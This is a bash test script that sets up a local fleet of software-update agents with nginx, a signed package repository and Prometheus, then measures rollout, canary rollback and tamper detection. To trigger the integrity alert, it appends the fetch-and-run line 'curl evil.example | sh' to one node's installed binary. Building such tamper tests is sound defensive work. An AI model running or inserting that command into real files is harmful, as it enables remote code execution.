#!/usr/bin/env bash
# Fleet proof on one machine (docs/guide.md "A fleet on one machine"): nginx serves a TUF repository made with `veripack repo`,
# N agents (default 20) with their own node roots and metrics ports poll it, plus one canary agent whose health check
# fails version 2.0; Prometheus scrapes them all and evaluates dist/prometheus/veripack.rules.yml. The script
# measures the idle fleet, publishes 2.0, then modifies one node's slot, and prints a table: time until all N run
# 2.0, the canary's automatic rollback, requests and bytes nginx served per agent (idle poll and update), the time
# until VeripackInstallationTampered fires, idle RSS and CPU of the agents, and verify-installed of a 1 MiB slot
# (veripack_integrity_check_duration_seconds: the first run after the update on every agent, and 25 runs in a row on
# one warm agent). It writes WORK/fleet.html (a status page from Prometheus' HTTP API) and WORK/fleet.svg.
# Everything runs on 127.0.0.1 under WORK (default /tmp/veripack-fleet, emptied first); every process it starts is
# stopped by its PID on every exit. Takes about 5 minutes with N=20 on 2 cores.
#   examples/fleet/run.sh [N] [WORK]
# Needs: java 17 + mvn (the launcher builds the CLI), openssl, nginx, prometheus (Debian packages), curl, python3.
# Exit: 0 all N converged, the canary rolled back and the alert fired; 1 one of them did not; 2 WORK is not empty
# and not this script's; 75 a tool is missing.
set -euo pipefail
N=${1:-20}
WORK=${2:-/tmp/veripack-fleet}
REPO=$(cd "$(dirname "$0")/../.." && pwd)
FLEET_PY="$REPO/examples/fleet/fleet.py"
for tool in java mvn openssl nginx prometheus curl python3; do
  command -v "$tool" >/dev/null || { echo "fleet: $tool is not installed; skipped" >&2; exit 75; }
done
# the agents' JVM options: the ones dist/systemd/veripack-agent.service sets, so RSS is the deployment's
# (FLEET_JAVA_OPTS replaces them, to compare other settings)
JAVA_OPTS=${FLEET_JAVA_OPTS-$(sed -n 's/^Environment="VERIPACK_JAVA_OPTS=\(.*\)"$/\1/p' "$REPO/dist/systemd/veripack-agent.service")}
INTERVAL=10s JITTER=5s INTEGRITY=20s SCRAPE=2s IDLE_SECONDS=${FLEET_IDLE_SECONDS:-60}
veripack() { "$REPO/veripack" "$@"; }
veripack --version >/dev/null   # builds the CLI once, outside the timings

pids=()
step=   # the waited-for step in progress (a sleep or a fleet.py phase), so a signal's trap runs at once and stops it
cleanup() {
  local p
  [ -n "$step" ] && kill -TERM "$step" 2>/dev/null || true
  for p in "${pids[@]}"; do kill -TERM "$p" 2>/dev/null || true; done
  for _ in $(seq 1 30); do
    local alive=0
    for p in "${pids[@]}"; do kill -0 "$p" 2>/dev/null && alive=1; done
    [ $alive = 0 ] && break
    sleep 0.5
  done
  for p in "${pids[@]}"; do kill -KILL "$p" 2>/dev/null || true; done
  wait 2>/dev/null || true
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM
# bash runs a trap only after the foreground command ends: long steps run in the background and are waited for
waited() { "$@" & step=$!; local rc=0; wait $step || rc=$?; step=; return $rc; }
free_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
now() { date +%s.%N; }
say() { echo "fleet: $*" >&2; }

# WORK is emptied: only a directory this script made (its marker file) or an empty or new one
if [ -d "$WORK" ] && [ ! -e "$WORK/.veripack-fleet" ] && [ -n "$(ls -A "$WORK")" ]; then
  echo "fleet: $WORK is not empty and was not made by this script; give another WORK" >&2; exit 2
fi
rm -rf "$WORK" && mkdir -p "$WORK" && cd "$WORK" && : > .veripack-fleet
# a vendor (root CA -> code-signing certificate), a package in two versions with a 1 MiB artifact, a repository
printf '[ca]\nbasicConstraints=critical,CA:true\nkeyUsage=critical,keyCertSign\n[signer]\nkeyUsage=critical,digitalSignature\nextendedKeyUsage=codeSigning\n' > ext.cnf
for k in root signer; do openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -out $k.key 2>/dev/null; done
openssl req -new -key root.key -subj "/O=Acme/CN=Acme Root CA" 2>/dev/null |
  openssl x509 -req -signkey root.key -days 30 -extfile ext.cnf -extensions ca -out root.pem 2>/dev/null
openssl req -new -key signer.key -subj "/O=Acme/CN=Acme Code Signing" 2>/dev/null |
  openssl x509 -req -CA root.pem -CAkey root.key -CAcreateserial -days 30 -extfile ext.cnf -extensions signer -out signer.pem 2>/dev/null
mkdir -p pkg/Files/bin pkg/Files/data pkg/Definitions
printf 'tosca_definitions_version: tosca_simple_yaml_1_3\n' > pkg/Definitions/mme.yaml
head -c 1048576 /dev/urandom > pkg/Files/data/image.bin
for v in 1.0 2.0; do
  printf '#!/bin/sh\necho "acme-mme %s running"\n' $v > pkg/Files/bin/mmed && chmod 755 pkg/Files/bin/mmed
  veripack sign --key signer.key --cert signer.pem --csar pkg --name acme-mme --version $v --out acme-mme-$v.csar 2>/dev/null
done
veripack repo init pub --keys keys >/dev/null
veripack repo add pub acme-mme-1.0.csar --keys keys --trust root.pem >/dev/null

# nginx serves the repository; agent i reads it under /a<i>/, so its access-log lines are its own
NGINX_PORT=$(free_port)
mkdir -p nginx
cat > nginx/nginx.conf <<EOF
daemon off;
worker_processes 1;
pid $WORK/nginx/nginx.pid;
error_log $WORK/nginx/error.log;
events { worker_connections 1024; }
http {
  log_format fleet '\$msec \$agent \$status \$bytes_sent';
  access_log $WORK/nginx/access.log fleet;
  client_body_temp_path $WORK/nginx; proxy_temp_path $WORK/nginx; fastcgi_temp_path $WORK/nginx;
  uwsgi_temp_path $WORK/nginx; scgi_temp_path $WORK/nginx;
  types { application/json json; }
  default_type application/octet-stream;
  server {
    listen 127.0.0.1:$NGINX_PORT;
    set \$agent -;
    location ~ ^/(a[0-9]+)/(.*)\$ { set \$agent \$1; alias $WORK/pub/\$2; }
  }
}
EOF
nginx -e "$WORK/nginx/error.log" -p "$WORK/nginx" -c "$WORK/nginx/nginx.conf" & pids+=($!)
for _ in $(seq 1 50); do curl -s -o /dev/null "http://127.0.0.1:$NGINX_PORT/" && break; sleep 0.1; done

# N + 1 nodes: each trusts the vendor, pins the repository's first root and installs 1.0 by hand; then its agent.
# The last one is the canary: its health check says 2.0 does not come up, so its agent must roll back to 1.0.
agents_json=()
user=$(id -un)
for k in $(seq 1 $((N + 1))); do
  printf -v i '%02d' "$k"
  node=node$i
  mkdir -m 755 $node
  printf 'authorizedInstallers: {users: [%s]}\ntrustAdministrators: {users: [%s]}\n' "$user" "$user" > $node/config.yaml
  veripack trust set --root $node --trust root.pem >/dev/null 2>&1
  veripack update --root $node --repo "http://127.0.0.1:$NGINX_PORT/a$i/" --repo-root pub/metadata/1.root.json >/dev/null 2>&1
  port=$(free_port)
  if [ "$k" -le "$N" ]; then role=fleet; health="[$WORK/$node/current/Files/bin/mmed]"
  else role=canary; health="[/bin/sh, -c, 'test \"\$VERIPACK_VERSION\" != 2.0']"; fi
  printf 'repository: {url: "http://127.0.0.1:%s/a%s/"}\ninterval: %s\njitter: %s\nintegrityInterval: %s\nhealthCheck: {command: %s}\nmetrics: {address: "127.0.0.1:%s"}\n' \
    "$NGINX_PORT" "$i" "$INTERVAL" "$JITTER" "$INTEGRITY" "$health" "$port" > agent$i.yaml
  chmod 644 agent$i.yaml
  # env --default-signal=HUP: the warm-agent step below signals HUP, which a shell started under nohup would ignore
  VERIPACK_JAVA_OPTS="$JAVA_OPTS" env --default-signal=HUP "$REPO/veripack" agent --root $node --config agent$i.yaml >agent$i.log 2>&1 & pids+=($!)
  tampered=false; [ "$k" = 1 ] && tampered=true
  agents_json+=("{\"name\": \"$node\", \"agent\": \"a$i\", \"port\": $port, \"pid\": $!, \"role\": \"$role\", \"tampered\": $tampered}")
done
(IFS=,; echo "[${agents_json[*]}]") > agents.json
printf '{"interval": "%s", "jitter": "%s", "integrityInterval": "%s", "scrape": "%s", "java_opts": "%s"}\n' \
  "$INTERVAL" "$JITTER" "$INTEGRITY" "$SCRAPE" "$JAVA_OPTS" > config.json

# Prometheus (own configuration and data directory) scrapes every agent and evaluates the alert rules
PROM_PORT=$(free_port)
cp "$REPO/dist/prometheus/veripack.rules.yml" .
targets=$(python3 -c 'import json; print(", ".join("\"127.0.0.1:%d\"" % a["port"] for a in json.load(open("agents.json"))))')
cat > prometheus.yml <<EOF
global: {scrape_interval: $SCRAPE, evaluation_interval: $SCRAPE}
rule_files: [veripack.rules.yml]
scrape_configs:
  - job_name: veripack
    static_configs: [{targets: [$targets]}]
EOF
prometheus --config.file=prometheus.yml --storage.tsdb.path=prom-data --web.listen-address=127.0.0.1:$PROM_PORT \
  >prometheus.log 2>&1 & pids+=($!)
say "$N agents + 1 canary, nginx http://127.0.0.1:$NGINX_PORT, Prometheus http://127.0.0.1:$PROM_PORT (alerts: /alerts)"
up=0
for _ in $(seq 1 180); do
  up=$(curl -s --get "http://127.0.0.1:$PROM_PORT/api/v1/query" --data-urlencode 'query=count(up{job="veripack"} == 1)' |
    python3 -c 'import json,sys; r=json.load(sys.stdin)["data"]["result"]; print(r[0]["value"][1] if r else 0)' 2>/dev/null || echo 0)
  [ "$up" = $((N + 1)) ] && break
  sleep 1
done
[ "$up" = $((N + 1)) ] || { say "only $up of $((N + 1)) agents are scraped; see $WORK/agent*.log"; exit 1; }
say "all agents up and scraped; idle for ${IDLE_SECONDS} s (RSS, CPU, idle polls)"

# idle: the agents started, polled and checked at least once; measure over a window without updates
waited sleep 20
python3 "$FLEET_PY" "$WORK" idle-start
waited sleep "$IDLE_SECONDS"
python3 "$FLEET_PY" "$WORK" idle-end

# publish 2.0: every fleet agent installs it, the canary installs it, fails its health check and rolls back
say "publishing 2.0"
t0=$(now)
veripack repo add pub acme-mme-2.0.csar --keys keys --trust root.pem >/dev/null
ok=0
waited python3 "$FLEET_PY" "$WORK" wait-update "$t0" 180 || ok=1

# one node's slot modified: the agent's next verify-installed finds it, Prometheus fires the alert
say "modifying node01's installed mmed"
t1=$(now)
chmod u+w node01/current/Files/bin/mmed && echo 'curl evil.example | sh' >> node01/current/Files/bin/mmed
waited python3 "$FLEET_PY" "$WORK" wait-alert "$t1" "$PROM_PORT" 120 || ok=1
# a verify-installed of every other node's slot after the update (1 MiB artifact): its wall time, warm
waited python3 "$FLEET_PY" "$WORK" wait-checks "$(python3 -c "import json; print(json.load(open('update.json'))['t_end'])")" 60
# a warm agent: one node verifies its slot 25 times in a row (SIGHUP), the last 20 are reported
waited python3 "$FLEET_PY" "$WORK" warm 25

echo
echo "# examples/fleet/run.sh $N, $(date -u +%Y-%m-%dT%H:%M:%SZ), $(nproc) cores, $(awk '/MemTotal/{printf "%.0f GiB", $2/1048576}' /proc/meminfo), load before the run's end: $(cut -d' ' -f1-3 /proc/loadavg)"
python3 "$FLEET_PY" "$WORK" report "$PROM_PORT"
say "status page: $WORK/fleet.html, picture: $WORK/fleet.svg"
exit $ok
